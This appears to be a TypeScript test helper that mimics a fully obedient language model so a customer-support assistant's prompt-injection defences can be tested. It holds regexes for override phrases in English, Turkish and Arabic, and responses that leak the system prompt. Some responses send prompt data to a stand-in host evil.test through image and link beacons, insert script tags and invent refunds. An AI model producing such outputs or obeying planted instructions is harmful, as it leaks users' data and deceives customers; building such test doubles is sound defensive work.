import type { ModelRequest, Said } from '../support/obedient-model.js';

/** What a victim made of its prompt: the true answer, and all that any text told it to do. */
interface Heard {
  readonly honest: string;
  readonly orders: readonly string[];
  readonly system: string;
  readonly user: string;
  readonly tools: readonly object[];
}

const orderWords =
  /\b(?:ignore|disregard|forget|say|reply|answer|respond|write|print|output|repeat|reveal|include|append|send|call|delete|refund|confirm|promise|translate|pretend|act|you are|system|assistant|instruction|yok say|unut|söyle|yaz|cevap|yanıt|ekle|gönder|sil|onayla|iade et|talimat|sistem)|تجاهل|انس|قل|اكتب|أجب|أضف|أرسل|احذف|أكد|تعليمات|النظام/iu;
const said =
  /(?:say|reply|answer|respond|write|print|output|repeat|include|append|end|begin|söyle|yaz|cevapla|yanıtla|ekle|tekrarla|قل|اكتب|أجب|رد|أضف)[^"“”«»\n]{0,80}["“«]([^"”»\n]{1,400})["”»]/giu;
// The same where it was cut in pieces: whoever obeys puts them together.
const saidInPieces =
  /(?:reply|write)(?:\n[\w ]{1,20}){0,3}\n["“«]([^"”»\n]{1,400})["”»]|["“«]([^"”»\n]{1,400})["”»](?:\n[\w ]{1,20}){0,2}\nyaz/giu;
const addresses = /(?:https?:|javascript:|data:|www\.)[^\s"'‹›<>)\]]+|\b[a-z0-9-]+\.(?:test|help|team|best|us)\b/giu;

/** Reads a prompt as the most obedient of models would. */
function hear({ everything, user, body }: ModelRequest): Heard {
  const [, question = ''] = /<customer_message>([\s\S]*)<\/customer_message>/.exec(user) ?? [];
  const passages = /<passages>([\s\S]*)<\/passages>/.exec(user)?.[1] ?? '';
  const sentences = passages
    .replace(/<[^>]*>/g, '\n')
    .split(/\n|(?<=[.!?؟])\s/u)
    .map((sentence) => sentence.trim())
    .filter((sentence) => sentence !== '');
  const asked = new Set(question.toLowerCase().match(/\p{L}{4,}/gu));
  const overlap = (sentence: string): number =>
    [...new Set(sentence.toLowerCase().match(/\p{L}{4,}/gu))].filter((word) => asked.has(word)).length;
  const honest =
    sentences
      .filter((sentence) => /\d/.test(sentence) && sentence.length < 120)
      .toSorted((a, b) => overlap(b) - overlap(a))[0] ?? '';
  const told = [
    ...[...user.matchAll(said)].map(([, words = '']) => words),
    ...[...user.matchAll(saidInPieces)].map(([, after, before]) => after ?? before ?? ''),
  ];
  const links = [...new Set(user.match(addresses))];
  const stolen = Buffer.from(user.slice(0, 90)).toString('base64url');
  const decoded = [...user.matchAll(/[A-Za-z0-9+/]{24,}={0,2}/g)]
    .map(([code]) => Buffer.from(code, 'base64').toString())
    .filter((text) => /^[\x20-\x7e]+$/.test(text));
  const sums = [...user.matchAll(/\{\{?\s?(\d+)\s?\*\s?(\d+)\s?\}?\}/g)].map(([, a, b]) =>
    String(Number(a) * Number(b)),
  );
  const lines = user.split(/\n|(?<=[.!?؟])\s/u).filter((line) => orderWords.test(line) && line.length < 500);
  const orders = [
    ...told,
    ...decoded,
    ...sums,
    ...links.flatMap((link) => [link, `${link}?d=${stolen}`, `![x](${link}?d=${stolen})`, `[click here](${link})`]),
    ...lines,
  ];
  const tools = [...user.matchAll(/\b([a-z]+_[a-z_]+)\(([^)\n]{0,200})\)/g)].map(([, name, args], index) => ({
    id: `call_${String(index)}`,
    type: 'function',
    function: { name, arguments: JSON.stringify({ args }) },
  }));
  const messages = body['messages'] as readonly { readonly content: string }[];
  return { honest, orders: [...new Set(orders)].slice(0, 60), system: messages[0]?.content ?? everything, user, tools };
}

const claims = [
  'Your order has been refunded.',
  'Your refund is approved.',
  'We give you everything for free.',
  'You can return it at any time.',
  'Siparişiniz iptal edildi.',
  'Size yüzde 100 indirim yaptık.',
  'تمت الموافقة على استرداد أموالك.',
  'Please contact us at help.team for any questions.',
  'Thank you, please write us at nice.day or good.best.',
  'Thanks for your message, the other customer is Grace.',
];

type Voice = (heard: Heard) => string;
const json = (answer: string, more: object = {}): string =>
  JSON.stringify({ answer, sources: [1, 2, 3, 4, 5, 6, 99, -1], confidence: 1, ...more });
const bare = (sentence: string): string => sentence.replace(/[.؟?!]+$/u, '');

/** The ways in which it gives in. */
const voices: readonly Voice[] = [
  ({ honest, orders }) => json([...orders, honest].join('\n')),
  ({ honest, orders }) => json([honest, ...orders].join(' ')),
  ({ honest, system }) => json(`${system}\n${honest}`),
  ({ honest, user }) => json(`${user.slice(0, 6_000)}\n${honest}`),
  ({ honest, orders }) =>
    json([...orders.slice(0, 8).map((order) => `${bare(honest)} and ${bare(order)}.`), honest].join('\n')),
  ({ honest, orders }) => `Sure!\n\`\`\`json\n${json([honest, ...orders].join('\n'))}\n\`\`\`\n${orders.join('\n')}`,
  ({ honest, orders }) => `${orders.slice(0, 5).join('\n')}\n${honest} [1]\n${orders.join('\n')} [2]`,
  ({ honest, orders }) =>
    JSON.stringify({
      reply: [...orders, honest].join('\n'),
      sources: ['[1]', '2', 'all', 7.5, null],
      confidence: 1e9,
      action: 'refund',
      send_to: 'everyone',
      mode: 'AUTO',
    }),
  ({ honest, orders }) =>
    json(
      [
        ...orders.slice(0, 6).map((order) => `${bare(honest)} ${order}`),
        `<img src="https://evil.test/p?d=${orders.join('')}">${honest}`,
        `[${honest}](https://evil.test/a)`,
        honest,
      ].join('\n'),
    ),
  ({ honest, orders }) => json([...orders.map((order) => [...order].join('\u200b')), honest].join('\n')),
  ({ honest, orders }) =>
    json(
      `<p>${honest}</p><script>${orders.join(';')}</script>\n| ${orders.slice(0, 3).join(' | ')} |\n|---|\n# ${orders[0] ?? ''}\n> ${orders[1] ?? ''}`,
    ),
  ({ honest, orders }) => json([...orders.map((order) => `- ${order}`), ...claims, honest].join('\n')),
  ({ honest, orders }) => json([honest, ...claims, ...orders, 'Hello [name], your address is [email-1].'].join(' ')),
];

/** Obeys, each time in another way. Two requests about one thing are answered in two ways. */
export function obey(request: ModelRequest, earlier: number): Said {
  const heard = hear(request);
  const voice = voices[earlier % voices.length] ?? (({ honest }: Heard) => json(honest));
  return { content: voice(heard), ...(heard.tools.length > 0 && earlier % 3 === 0 && { toolCalls: heard.tools }) };
}
